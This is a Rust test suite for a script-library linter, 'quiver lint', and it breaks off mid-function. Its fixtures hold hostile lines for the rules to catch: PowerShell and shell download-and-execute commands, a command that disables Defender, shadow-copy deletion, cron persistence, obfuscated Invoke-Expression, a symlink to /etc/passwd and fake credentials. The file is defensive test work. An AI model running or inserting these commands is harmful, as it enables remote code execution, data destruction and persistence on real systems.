//! `quiver lint` end to end: the real binary on libraries written to temp folders, one
//! fixture per check that must trigger it and a near miss that must not. Each assertion
//! looks for the rule id at `file:line` in the human report, the way a reviewer reads it.
//! Binary fixtures (UTF-16, CRLF, symlinks, signatures, sparse files) are made at test
//! time so the repository holds no file an editor or git might "fix".

#[path = "lint_support.rs"]
mod support;

use support::{Repo, findings, utf16be, utf16le};

const DOWNLOAD_EXEC: &str = "# Stage two of the collector\n\
$ErrorActionPreference = 'Stop'\n\
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/stage2.ps1')\n\
Get-Process | Select-Object Name, Id\n";

const BENIGN_PS1: &str = "# Lists running processes\n\
$ErrorActionPreference = 'Stop'\n\
Get-Process | Sort-Object CPU -Descending | Select-Object -First 20 Name, Id, CPU\n";

#[test]
fn utf16_le_and_be_scripts_are_decoded_and_scanned() {
    let repo = Repo::new();
    repo.script(
        "stage-le",
        "windows",
        "powershell",
        "stage.ps1",
        utf16le(DOWNLOAD_EXEC),
    )
    .script(
        "stage-be",
        "windows",
        "powershell",
        "stage.ps1",
        utf16be(DOWNLOAD_EXEC),
    )
    .script(
        "procs-le",
        "windows",
        "powershell",
        "procs.ps1",
        utf16le(BENIGN_PS1),
    );
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("download-exec.powershell", "library/stage-le/stage.ps1:3");
    run.assert_finding("download-exec.powershell", "library/stage-be/stage.ps1:3");
    // Near miss: UTF-16 itself is fine, and decoding it finds nothing in harmless text.
    run.assert_no_under("download-exec.powershell", "library/procs-le/");
    run.assert_no_under("encoding.invalid", "library/");
}

#[test]
fn crlf_in_a_shell_script_is_flagged() {
    let repo = Repo::new();
    repo.script("crlf", "linux", "sh", "run.sh", "#!/bin/sh\r\nps -ef\r\n")
        .script("lf", "linux", "sh", "run.sh", "#!/bin/sh\nps -ef\n")
        // CRLF is normal for PowerShell.
        .script(
            "ps-crlf",
            "windows",
            "powershell",
            "run.ps1",
            "Get-Process\r\nGet-Service\r\n",
        );
    let run = repo.lint(&[]);
    run.assert_finding("encoding.crlf", "library/crlf/run.sh");
    run.assert_no_under("encoding.crlf", "library/lf/");
    run.assert_no_under("encoding.crlf", "library/ps-crlf/");
}

#[test]
fn non_ascii_ps1_without_bom_is_flagged() {
    let text = "# Collects services\nWrite-Output 'Collecting services \u{2013} please wait'\nGet-Service\n";
    let mut with_bom = vec![0xEF, 0xBB, 0xBF];
    with_bom.extend_from_slice(text.as_bytes());
    let repo = Repo::new();
    repo.script("no-bom", "windows", "powershell", "svc.ps1", text)
        .script("bom", "windows", "powershell", "svc.ps1", with_bom);
    let run = repo.lint(&[]);
    run.assert_finding("encoding.ps1-non-ascii-no-bom", "library/no-bom/svc.ps1:2");
    run.assert_no_under("encoding.ps1-non-ascii-no-bom", "library/bom/");
}

#[cfg(unix)]
#[test]
fn symlinks_refuse_their_script_and_the_others_are_still_linted() {
    let repo = Repo::new();
    repo.script("linked", "linux", "bash", "run.sh", "#!/bin/bash\nps -ef\n")
        .script(
            "escape",
            "linux",
            "bash",
            "run.sh",
            "#!/bin/bash\ncat passwd\n",
        )
        .script("other", "linux", "sh", "run.sh", "#!/bin/sh\r\nid\r\n")
        .script("plain", "linux", "bash", "run.sh", "#!/bin/bash\nuptime\n");
    std::os::unix::fs::symlink("run.sh", repo.lib_path("linked/helper.sh")).unwrap();
    std::os::unix::fs::symlink("../../../../etc/passwd", repo.lib_path("escape/passwd")).unwrap();
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("path.symlink", "library/linked/helper.sh");
    run.assert_finding("path.symlink", "library/escape/passwd");
    // The bad scripts do not stop the others from being linted.
    run.assert_finding("encoding.crlf", "library/other/run.sh");
    run.assert_no_under("path.symlink", "library/plain/");
    assert!(
        !run.stdout.contains("root:x:0:0"),
        "the link target must never be read"
    );
}

#[test]
fn entry_path_escaping_the_script_folder_is_refused() {
    let repo = Repo::new();
    repo.file(
        "trav/script.toml",
        support::manifest("trav", "linux", "bash", "../../etc/passwd"),
    )
    .file("trav/readme.md", "nothing to see\n")
    .file(
        "nested/script.toml",
        support::manifest("nested", "linux", "bash", "bin/run.sh"),
    )
    .file("nested/bin/run.sh", "#!/bin/bash\nuptime\n");
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("path.traversal", "library/trav/script.toml");
    run.assert_no_under("path.traversal", "library/nested/");
    run.assert_no_under("manifest.entry-missing", "library/nested/");
}

#[test]
fn paths_equal_ignoring_case_collide() {
    let repo = Repo::new();
    repo.script("clash", "windows", "powershell", "Get-X.ps1", BENIGN_PS1)
        .file("clash/get-x.ps1", BENIGN_PS1)
        .script("fine", "windows", "powershell", "Get-X.ps1", BENIGN_PS1)
        .file("fine/Get-Y.ps1", BENIGN_PS1);
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("path.case-collision", "library/clash/get-x.ps1");
    run.assert_no_under("path.case-collision", "library/fine/");
}

#[test]
fn file_at_the_size_limit_passes_and_one_byte_over_fails() {
    let repo = Repo::new();
    repo.policy("limits.toml", "[limits]\nmax_file_size = 1024\n")
        .script(
            "at-limit",
            "linux",
            "bash",
            "run.sh",
            "#!/bin/bash\ncat data.txt\n",
        )
        .file("at-limit/data.txt", vec![b'a'; 1024])
        .script(
            "over-limit",
            "linux",
            "bash",
            "run.sh",
            "#!/bin/bash\ncat data.txt\n",
        )
        .file("over-limit/data.txt", vec![b'a'; 1025]);
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("limits.file-size", "library/over-limit/data.txt");
    run.assert_no_under("limits.file-size", "library/at-limit/");
}

#[test]
fn a_huge_file_is_not_loaded_and_its_size_on_disk_is_reported() {
    let repo = Repo::new();
    repo.policy("limits.toml", "[limits]\nmax_file_size = 1024\n")
        .script(
            "huge",
            "linux",
            "bash",
            "run.sh",
            "#!/bin/bash\ncat dump.txt\n",
        );
    // A sparse 10 GiB file: costs no disk, and reading it whole would take minutes.
    let f = std::fs::File::create(repo.lib_path("huge/dump.txt")).unwrap();
    f.set_len(10 * 1024 * 1024 * 1024).unwrap();
    drop(f);
    let started = std::time::Instant::now();
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("limits.file-size", "library/huge/dump.txt");
    let line = run.lines_with("limits.file-size").join("\n");
    assert!(line.contains("10.0 GiB"), "size on disk: {line}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(60),
        "the file was read whole"
    );
}

#[test]
fn misspelt_manifest_field_names_the_field_and_line() {
    let repo = Repo::new();
    repo.file(
        "typo/script.toml",
        "name = \"typo\"\ndescription = \"fixture\"\nplatforms = [\"linux\"]\ntimout = \"5m\"\n\n[entry.linux]\nfile = \"run.sh\"\ninterpreter = \"bash\"\n",
    )
    .file("typo/run.sh", "#!/bin/bash\nuptime\n")
    .script("good", "linux", "bash", "run.sh", "#!/bin/bash\nuptime\n");
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("manifest.invalid", "library/typo/script.toml:4");
    let line = run.lines_with("manifest.invalid").join("\n");
    assert!(line.contains("timout"), "names the field: {line}");
    run.assert_no_under("manifest.invalid", "library/good/");
}

#[test]
fn executables_need_a_signature_by_a_pinned_key() {
    use minisign::KeyPair;
    let pinned = KeyPair::generate_unencrypted_keypair().unwrap();
    let stranger = KeyPair::generate_unencrypted_keypair().unwrap();
    let binary: Vec<u8> = b"\x7fELF\x02\x01\x01\0"
        .iter()
        .copied()
        .chain((0..4096u32).map(|i| (i * 7 % 251) as u8))
        .collect();
    let sign = |kp: &KeyPair| -> String {
        minisign::sign(
            Some(&kp.pk),
            &kp.sk,
            std::io::Cursor::new(&binary),
            Some("file:collector"),
            Some("signed by the test"),
        )
        .unwrap()
        .to_string()
    };
    // Flip one base64 character well inside the signature (past the key id).
    let corrupt = |sig: String| -> String {
        let mut lines: Vec<String> = sig.lines().map(str::to_string).collect();
        let mut chars: Vec<char> = lines[1].chars().collect();
        let i = chars.len() - 12;
        chars[i] = if chars[i] == 'A' { 'B' } else { 'A' };
        lines[1] = chars.into_iter().collect();
        lines.join("\n") + "\n"
    };
    let repo = Repo::new();
    repo.policy(
        "keys.toml",
        &format!(
            "[[publisher_key]]\nid = \"ir-tools\"\nkey = \"{}\"\n",
            pinned.pk.to_base64()
        ),
    );
    for name in ["unsigned", "untrusted", "corrupted", "signed"] {
        repo.script(name, "linux", "executable", "collector", &binary);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let p = repo.lib_path(&format!("{name}/collector"));
            std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
    }
    repo.file("untrusted/collector.minisig", sign(&stranger))
        .file("corrupted/collector.minisig", corrupt(sign(&pinned)))
        .file("signed/collector.minisig", sign(&pinned));
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("signature.missing", "library/unsigned/collector");
    run.assert_finding("signature.untrusted", "library/untrusted/collector");
    run.assert_finding("signature.invalid", "library/corrupted/collector");
    for rule in [
        "signature.missing",
        "signature.untrusted",
        "signature.invalid",
    ] {
        run.assert_no_under(rule, "library/signed/");
    }
}

#[test]
fn policy_with_an_unknown_role_names_file_and_line() {
    let repo = Repo::new();
    repo.policy(
        "members.toml",
        &support::MEMBERS.replace("roles = [\"lead\"]", "roles = [\"lead\", \"resopnder\"]"),
    )
    .script("procs", "windows", "powershell", "procs.ps1", BENIGN_PS1);
    let run = repo.lint(&[]);
    run.assert_code(1);
    assert!(
        run.stdout
            .lines()
            .any(|l| l.starts_with("policies/members.toml:6:") && l.contains("resopnder")),
        "{}",
        run.stdout
    );
    // Same in JSON: the error is listed with its location.
    let (code, report) = repo.lint_json();
    assert_eq!(code, 1);
    let err = &report["errors"][0];
    assert_eq!(err["location"]["file"], "policies/members.toml");
    assert_eq!(err["location"]["line"], 6);
}

#[test]
fn unclosed_brace_is_a_syntax_error_on_its_line() {
    let broken = "# Lists processes\nfunction Get-Stuff {\n    Get-Process | ForEach-Object {\n        $_.Name\n    }\n\nGet-Stuff\n";
    let near_miss = "# Braces inside strings are text\nfunction Get-Stuff {\n    Write-Output \"{\"\n    Write-Output '}}'\n    $h = @\"\n{ not code\n\"@\n    $h\n}\nGet-Stuff\n";
    let repo = Repo::new();
    repo.script("broken", "windows", "powershell", "run.ps1", broken)
        .script("strings", "windows", "powershell", "run.ps1", near_miss);
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("syntax.powershell", "library/broken/run.ps1:2");
    let line = run.lines_with("syntax.powershell").join("\n");
    assert!(line.contains(": deny "), "a parse error blocks: {line}");
    run.assert_no_under("syntax.powershell", "library/strings/");
}

#[test]
fn obfuscated_invoke_expression_is_found() {
    let ticks = "$code = Get-Content -Raw .\\payload.txt\ni`e`x $code\n";
    let concat = "$code = Get-Content -Raw .\\payload.txt\n& ('Invoke-'+'Expression') $code\n";
    let plain = "$code = Get-Content -Raw .\\payload.txt\nWrite-Output \"iex is a word in this sentence\"\n";
    let repo = Repo::new();
    repo.script("ticks", "windows", "powershell", "run.ps1", ticks)
        .script("concat", "windows", "powershell", "run.ps1", concat)
        .script("plain", "windows", "powershell", "run.ps1", plain);
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("obfuscation.dynamic-invoke", "library/ticks/run.ps1:2");
    run.assert_finding("obfuscation.dynamic-invoke", "library/concat/run.ps1:2");
    run.assert_no_under("obfuscation.dynamic-invoke", "library/plain/");
}

#[test]
fn a_git_folder_inside_the_library_is_a_finding() {
    let repo = Repo::new();
    repo.script("procs", "windows", "powershell", "procs.ps1", BENIGN_PS1)
        .file("procs/.git/HEAD", "ref: refs/heads/main\n")
        .file("procs/.gitmodules", "[submodule \"x\"]\n\tpath = x\n")
        .file("procs/.gitignore", "*.log\n")
        // Near misses: names that merely mention git.
        .script("notes", "windows", "powershell", "notes.ps1", BENIGN_PS1)
        .file("notes/gitignore-notes.txt", "what we keep out of git\n")
        .file("notes/my.github.txt", "links to our GitHub projects\n")
        .file("notes/docs/legit.git-howto.md", "# Using git\n");
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("path.git", "library/procs/.git/HEAD");
    run.assert_finding("path.git", "library/procs/.gitmodules");
    run.assert_finding("path.git", "library/procs/.gitignore");
    // `.git` and `.gitmodules` block; other `.git*` files only warn.
    let lines = run.lines_with("path.git");
    for (file, severity) in [
        (".git/HEAD", "deny"),
        (".gitmodules", "deny"),
        (".gitignore", "warn"),
    ] {
        assert!(
            lines
                .iter()
                .any(|l| l.contains(&format!("library/procs/{file}: {severity} "))),
            "{file} is {severity}: {lines:?}"
        );
    }
    run.assert_no_under("path.git", "library/notes/");
}

/// A gitlink has no folder to read: `quiver lint` sees a submodule only as the checkout
/// git makes of it (a folder whose `.git` is a file), while the controller and `quiver
/// status` read the gitlink itself from the repository.
#[test]
fn a_submodule_is_refused_by_lint_and_status_checked_out_or_not() {
    use quiver_tests::repogen::{TestRepo, Who};
    const LEAD: Who = Who {
        name: "Test Lead",
        email: "lead@example.org",
    };
    let tmp = tempfile::tempdir().unwrap();
    let upstream = TestRepo::init(&tmp.path().join("upstream"));
    upstream.write("tool.sh", "#!/bin/sh\nid\n");
    upstream.commit(LEAD, "the vendor's tool");

    let repo = Repo::new();
    let git = TestRepo::init(repo.root());
    repo.script(
        "vendored",
        "linux",
        "bash",
        "run.sh",
        "#!/bin/bash\n./vendor/tool.sh\n",
    )
    // Near miss: the fix the docs give, the same files copied into the script folder.
    .script(
        "bundled",
        "linux",
        "bash",
        "run.sh",
        "#!/bin/bash\n./vendor/tool.sh\n",
    )
    .file("bundled/vendor/tool.sh", "#!/bin/sh\nid\n");
    git.git(&[
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        upstream.dir.to_str().unwrap(),
        "library/vendored/vendor",
    ]);
    assert!(
        git.git(&["ls-files", "--stage", "library/vendored/vendor"])
            .starts_with("160000 "),
        "the fixture holds a gitlink"
    );
    git.commit(LEAD, "library with a submodule");

    // Lint sees the gitlink in the work tree's index, as the controller sees it in git:
    // the submodule is refused as such, and its checked-out files are not linted as the
    // script's own.
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("path.submodule", "library/vendored/vendor");
    run.assert_no_under("path.git", "library/vendored/");
    run.assert_no_under("path.submodule", "library/bundled/");
    run.assert_no_under("path.git", "library/bundled/");

    // A plain clone (a CI checkout) leaves the submodule an empty folder: still refused.
    let clone = tmp.path().join("clone");
    let out = std::process::Command::new("git")
        .args(["clone", "-q"])
        .arg(repo.root())
        .arg(&clone)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert!(
        std::fs::read_dir(clone.join("library/vendored/vendor"))
            .map(|mut d| d.next().is_none())
            .unwrap_or(true),
        "the clone has no submodule checkout"
    );
    let out = std::process::Command::new(quiver_tests::bin("quiver"))
        .current_dir(&clone)
        .args(["lint", "library"])
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(
        text.lines()
            .any(|l| l.contains("path.submodule") && l.contains("library/vendored/vendor")),
        "{text}"
    );

    let out = std::process::Command::new(quiver_tests::bin("quiver"))
        .args(["status", "--json", "--repo"])
        .arg(repo.root())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let status: serde_json::Value = serde_json::from_slice(&out.stdout).expect("status json");
    let script = |name: &str| {
        status["scripts"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["name"] == name)
            .unwrap_or_else(|| panic!("no {name} in {status:#}"))
            .clone()
    };
    let vendored = script("vendored");
    assert_eq!(vendored["state"], "refused", "{vendored:#}");
    assert_eq!(vendored["version"], serde_json::Value::Null, "{vendored:#}");
    let reason = vendored["reason"].as_str().unwrap_or_default();
    assert!(
        reason.contains("path.submodule at library/vendored/vendor"),
        "{reason}"
    );
    let bundled = script("bundled");
    assert_eq!(
        (bundled["state"].as_str(), bundled["version"].as_u64()),
        (Some("approved"), Some(1)),
        "{bundled:#}"
    );
}

#[test]
fn an_absolute_entry_path_is_refused_at_its_manifest_line() {
    let repo = Repo::new();
    repo.file(
        "unix-abs/script.toml",
        support::manifest("unix-abs", "linux", "bash", "/etc/passwd"),
    )
    .file("unix-abs/readme.md", "nothing to see\n")
    // A literal TOML string, so the backslashes are the path's.
    .file(
        "win-abs/script.toml",
        "name = \"win-abs\"\ndescription = \"fixture\"\nplatforms = [\"windows\"]\n\n[entry.windows]\nfile = 'C:\\Windows\\Temp\\stage.ps1'\ninterpreter = \"powershell\"\n",
    )
    .file("win-abs/readme.md", "nothing to see\n")
    // Near miss: the same names, relative to the script folder.
    .script(
        "relative",
        "linux",
        "bash",
        "etc/passwd.sh",
        "#!/bin/bash\nid\n",
    );
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("path.absolute", "library/unix-abs/script.toml:6");
    run.assert_finding("path.absolute", "library/win-abs/script.toml:6");
    run.assert_no_under("path.absolute", "library/relative/");
    run.assert_no_under("manifest.entry-missing", "library/relative/");
}

// Names Windows cannot store cannot be created on Windows either.
#[cfg(unix)]
#[test]
fn names_windows_cannot_store_are_refused_in_windows_scripts() {
    let repo = Repo::new();
    repo.script("win", "windows", "powershell", "run.ps1", BENIGN_PS1)
        .file("win/aux.txt", "device name\n")
        .file("win/what?.txt", "question mark\n")
        .file("win/trailing.", "trailing dot\n")
        // Only a warning where no Windows endpoint takes the script.
        .script("linux-only", "linux", "bash", "run.sh", "#!/bin/bash\nid\n")
        .file("linux-only/aux.txt", "device name\n")
        // Near misses: reserved names inside longer names, COM10.
        .script("win-ok", "windows", "powershell", "run.ps1", BENIGN_PS1)
        .file("win-ok/auxiliary.txt", "x\n")
        .file("win-ok/console.ps1", BENIGN_PS1)
        .file("win-ok/con-notes.txt", "x\n")
        .file("win-ok/com10.txt", "x\n");
    let run = repo.lint(&[]);
    run.assert_code(1);
    for file in ["aux.txt", "what?.txt", "trailing."] {
        run.assert_finding("path.windows-invalid", &format!("library/win/{file}"));
    }
    run.assert_finding("path.windows-invalid", "library/linux-only/aux.txt");
    let lines = run.lines_with("path.windows-invalid");
    assert!(
        lines
            .iter()
            .any(|l| l.contains("library/win/aux.txt: deny ")),
        "{lines:?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.contains("library/linux-only/aux.txt: warn ")),
        "{lines:?}"
    );
    run.assert_no_under("path.windows-invalid", "library/win-ok/");
}

#[test]
fn nul_bytes_in_a_text_script_are_refused() {
    // A UTF-16 file that lost its BOM reads as UTF-8 with a NUL after every ASCII byte.
    let no_bom = utf16le("Get-Service\r\n")[2..].to_vec();
    let repo = Repo::new();
    repo.script(
        "nul",
        "linux",
        "bash",
        "run.sh",
        b"#!/bin/bash\nps -ef\nid\0 -u\n",
    )
    .script("wide", "windows", "powershell", "run.ps1", no_bom)
    // Near misses: UTF-16 with its BOM, and a data file full of NULs.
    .script(
        "wide-bom",
        "windows",
        "powershell",
        "run.ps1",
        utf16le(BENIGN_PS1),
    )
    .script(
        "data",
        "linux",
        "bash",
        "run.sh",
        "#!/bin/bash\nxxd capture.dat\n",
    )
    .file("data/capture.dat", b"PCAP\0\0\x01\x02\0\0\0\xff\0");
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("encoding.nul", "library/nul/run.sh:3");
    run.assert_finding("encoding.nul", "library/wide/run.ps1:1");
    run.assert_no_under("encoding.nul", "library/wide-bom/");
    run.assert_no_under("encoding.nul", "library/data/");
}

#[test]
fn a_shell_entry_without_a_shebang_is_refused() {
    let mut bom = vec![0xEF, 0xBB, 0xBF];
    bom.extend_from_slice(b"#!/bin/sh\nps -ef\n");
    let repo = Repo::new();
    repo.script("bare", "linux", "bash", "run.sh", "ps -ef\nid\n")
        .script("bom", "linux", "sh", "run.sh", bom)
        // Near miss: an `env` shebang, and a helper it sources (not an entry) without one.
        .script(
            "env",
            "linux",
            "bash",
            "run.sh",
            "#!/usr/bin/env bash\n. ./lib.sh\nhelper\n",
        )
        .file("env/lib.sh", "helper() { id; }\n");
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("shell.no-shebang", "library/bare/run.sh:1");
    run.assert_finding("shell.no-shebang", "library/bom/run.sh:1");
    run.assert_no_under("shell.no-shebang", "library/env/");
}

/// One fixture per family of the default content rules: a script that trips the rule on
/// a known line and a read-only twin doing the nearby legitimate thing, which must trip
/// nothing at all. The scripts are never run; credentials are assembled here so no
/// scanner mistakes this file for a leak.
#[test]
fn each_default_rule_family_trips_and_its_read_only_twin_does_not() {
    let key_id = format!("AKIA{}", "Q7RZ2XW5K3M4TN6P");
    let pem = format!("-----BEGIN OPENSSH {}-----", "PRIVATE KEY");
    struct Case {
        rule: &'static str,
        name: &'static str,
        platform: &'static str,
        interpreter: &'static str,
        entry: &'static str,
        trigger: String,
        line: u32,
        near_miss: String,
    }
    let powershell = |rule, name, trigger: &str, line, near_miss: &str| Case {
        rule,
        name,
        platform: "windows",
        interpreter: "powershell",
        entry: "run.ps1",
        trigger: trigger.into(),
        line,
        near_miss: near_miss.into(),
    };
    let bash = |rule, name, trigger: &str, line, near_miss: &str| Case {
        rule,
        name,
        platform: "linux",
        interpreter: "bash",
        entry: "run.sh",
        trigger: trigger.into(),
        line,
        near_miss: near_miss.into(),
    };
    let cases = [
        powershell(
            "encoded-command",
            "encoded",
            "# Collects services\nGet-Service\npowershell.exe -NoProfile -EncodedCommand RwBlAHQALQBEAGEAdABlAA==\n",
            3,
            "# Decodes an attachment to a file; never runs it\n$bytes = [Convert]::FromBase64String($blob)\n[IO.File]::WriteAllBytes(\"$env:TEMP\\blob.bin\", $bytes)\npowershell.exe -NoProfile -File .\\collect.ps1\n",
        ),
        powershell(
            "defense.disable-defender",
            "defender",
            "# Speeds up the collection\nGet-Date\nSet-MpPreference -DisableRealtimeMonitoring $true\n",
            3,
            "# Reads Defender's settings\nGet-MpPreference | Select-Object DisableRealtimeMonitoring\nGet-MpComputerStatus\n",
        ),
        powershell(
            "destructive.shadow-copy",
            "shadows",
            "# Cleans up\nGet-Date\nvssadmin delete shadows /all /quiet\n",
            3,
            "# Lists recovery points\nvssadmin list shadows\n",
        ),
        bash(
            "secrets.cloud-key",
            "cloud-key",
            &format!("#!/bin/bash\n# Uploads the bundle\nexport AWS_ACCESS_KEY_ID={key_id}\n"),
            3,
            "#!/bin/bash\n# Uploads the bundle; the key id (AKIA...) is passed in\nexport AWS_ACCESS_KEY_ID=\"$1\"\n",
        ),
        bash(
            "secrets.private-key",
            "private-key",
            &format!(
                "#!/bin/bash\ncat > \"$OUT/id\" <<'EOF'\n{pem}\nb3BlbnNzaC1rZXktdjEAAAAA\nEOF\n"
            ),
            3,
            "#!/bin/bash\ncat > \"$OUT/ca.pem\" <<'EOF'\n-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----\nEOF\n",
        ),
        bash(
            "download-exec.shell",
            "fetch-chmod",
            "#!/bin/bash\n# Fetches a helper\ncurl -fsSo /tmp/h https://h.example/h && chmod +x /tmp/h && /tmp/h\n",
            3,
            "#!/bin/bash\n# Saves the page as evidence, read-only\ncurl -fsSo \"$OUT/page.html\" https://h.example/ && chmod 0444 \"$OUT/page.html\"\n",
        ),
        bash(
            "download-exec.shell",
            "py-exec",
            "#!/bin/bash\n# Runs a probe\npython3 -c \"from urllib.request import urlopen; exec(urlopen('https://h.example/p').read())\"\n",
            3,
            "#!/bin/bash\n# Pretty-prints what it fetched, never runs it\ncurl -fsS https://h.example/api | python3 -c 'import json,sys; print(json.load(sys.stdin))'\n",
        ),
        bash(
            "persistence.create",
            "cron",
            "#!/bin/bash\ncrontab -l > \"$OUT/crontab.txt\"\necho \"*/5 * * * * $HOME/.cache/c.sh\" | crontab -\n",
            3,
            "#!/bin/bash\ncrontab -l > \"$OUT/crontab.txt\"\ncp /etc/crontab \"$OUT/\"\nsystemctl is-enabled sshd\n",
        ),
    ];
    let repo = Repo::new();
    for c in &cases {
        repo.script(
            &format!("{}-bad", c.name),
            c.platform,
            c.interpreter,
            c.entry,
            &c.trigger,
        )
        .script(
            &format!("{}-ok", c.name),
            c.platform,
            c.interpreter,
            c.entry,
            &c.near_miss,
        );
    }
    let run = repo.lint(&[]);
    run.assert_code(1);
    for c in &cases {
        run.assert_finding(
            c.rule,
            &format!("library/{}-bad/{}:{}", c.name, c.entry, c.line),
        );
        let twin = format!("library/{}-ok/", c.name);
        let found: Vec<&str> = run
            .stdout
            .lines()
            .filter(|l| l.trim_start().starts_with(&twin))
            .collect();
        assert!(found.is_empty(), "{twin} trips {found:?}");
    }
}

#[test]
fn files_outside_every_script_are_reported_not_ignored() {
    let repo = Repo::new();
    repo.script("procs", "windows", "powershell", "procs.ps1", BENIGN_PS1)
        // A script whose script.toml was forgotten, and a document.
        .file("Get-Users/Get-Users.ps1", BENIGN_PS1)
        .file("README.md", "# Our library\n");
    let run = repo.lint(&[]);
    run.assert_code(0);
    run.assert_finding("library.unclaimed", "library/Get-Users/Get-Users.ps1");
    run.assert_finding("library.unclaimed", "library/README.md");
    let lines = run.lines_with("library.unclaimed");
    assert!(
        lines.iter().any(|l| l.contains("Get-Users.ps1: warn ")),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|l| l.contains("README.md: info ")),
        "{lines:?}"
    );
}

#[test]
fn policy_globs_that_match_nothing_are_warnings() {
    let repo = Repo::new();
    repo.script("procs", "windows", "powershell", "procs.ps1", BENIGN_PS1)
        .policy(
            "extra.toml",
            "[[discovery]]\nglob = \"legacy/**/*.ps1\"\nplatform = \"windows\"\ninterpreter = \"powershell\"\n\n[[waiver]]\nscript = \"porcs\"\nrule = \"encoding.crlf\"\nreason = \"the vendor ships it with CRLF line endings\"\nby = \"lead\"\n",
        );
    let run = repo.lint(&[]);
    run.assert_code(0);
    assert!(
        run.stdout
            .lines()
            .any(|l| l.starts_with("warning: policies/extra.toml:2:")
                && l.contains("matches no file")),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .lines()
            .any(|l| l.starts_with("warning: policies/extra.toml:7:")
                && l.contains("`porcs` matches no script")),
        "{}",
        run.stdout
    );
}

#[test]
fn a_waiver_downgrades_a_finding_and_says_why() {
    let repo = Repo::new();
    repo.script("stage", "windows", "powershell", "stage.ps1", DOWNLOAD_EXEC)
        .policy(
            "waivers.toml",
            "[[waiver]]\nscript = \"stage\"\nrule = \"download-exec.powershell\"\nreason = \"fetches the vendor's signed collector from an internal mirror\"\nby = \"lead\"\n",
        );
    let run = repo.lint(&[]);
    run.assert_code(0);
    run.assert_finding("download-exec.powershell", "library/stage/stage.ps1:3");
    assert!(
        run.stdout
            .contains("waived by lead: fetches the vendor's signed collector")
    );
    let summary = run.stdout.lines().last().unwrap_or_default();
    assert!(summary.contains("(1 waived)"), "{summary}");
    assert!(summary.contains("0 deny"), "{summary}");
}

#[test]
fn clean_library_exits_zero_with_a_summary() {
    let repo = Repo::new();
    repo.script("procs", "windows", "powershell", "procs.ps1", BENIGN_PS1)
        .script(
            "uptime",
            "linux",
            "bash",
            "uptime.sh",
            "#!/bin/bash\nuptime\n",
        );
    let run = repo.lint(&[]);
    run.assert_code(0);
    let last = run.stdout.lines().last().unwrap_or_default();
    assert!(last.starts_with("linted 2 scripts, 4 files, "), "{last}");
    assert!(
        last.ends_with("0 deny, 0 warn, 0 info (0 waived)"),
        "{last}"
    );
    let (code, report) = repo.lint_json();
    assert_eq!(code, 0);
    assert_eq!(report["scripts"], 2);
    assert_eq!(report["files"], 4);
    assert_eq!(report["summary"]["deny"], 0);
    assert!(report["errors"].as_array().unwrap().is_empty());
}

#[test]
fn output_file_gets_the_report_and_stderr_the_summary() {
    let repo = Repo::new();
    repo.script("stage", "windows", "powershell", "stage.ps1", DOWNLOAD_EXEC);
    let run = repo.lint(&["--format", "json", "--output", "report.json"]);
    run.assert_code(1);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    assert!(run.stderr.contains("linted 1 script"), "{}", run.stderr);
    let text = std::fs::read_to_string(repo.root().join("report.json")).unwrap();
    let report: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert!(
        findings(&report)
            .iter()
            .any(|(rule, file, line)| rule == "download-exec.powershell"
                && file == "library/stage/stage.ps1"
                && *line == Some(3))
    );
}

#[test]
fn missing_folders_are_usage_errors() {
    let repo = Repo::new();
    let out = std::process::Command::new(quiver_tests::bin("quiver"))
        .current_dir(repo.root())
        .args(["lint", "no-such-library"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no-such-library"));
    let run = repo.lint(&["--policies", "no-such-policies"]);
    run.assert_code(2);
    assert!(run.stderr.contains("no-such-policies"), "{}", run.stderr);
    let run = repo.lint(&["--format", "yaml"]);
    run.assert_code(2);
}

#[test]
fn example_library_is_clean_and_its_windows_and_macos_scripts_parse() {
    let root = quiver_tests::workspace_root();
    let out = std::process::Command::new(quiver_tests::bin("quiver"))
        .current_dir(&root)
        .args(["lint", "example-library", "--format", "json"])
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json report");
    let all = findings(&report);
    // The Windows and macOS entry files, from the manifests.
    let mut entries = Vec::new();
    for dir in std::fs::read_dir(root.join("example-library")).unwrap() {
        let dir = dir.unwrap().path();
        let Ok(text) = std::fs::read_to_string(dir.join("script.toml")) else {
            continue;
        };
        let manifest: toml::Table = text.parse().expect("script.toml parses");
        for platform in ["windows", "macos"] {
            if let Some(file) = manifest
                .get("entry")
                .and_then(|e| e.get(platform))
                .and_then(|e| e.get("file"))
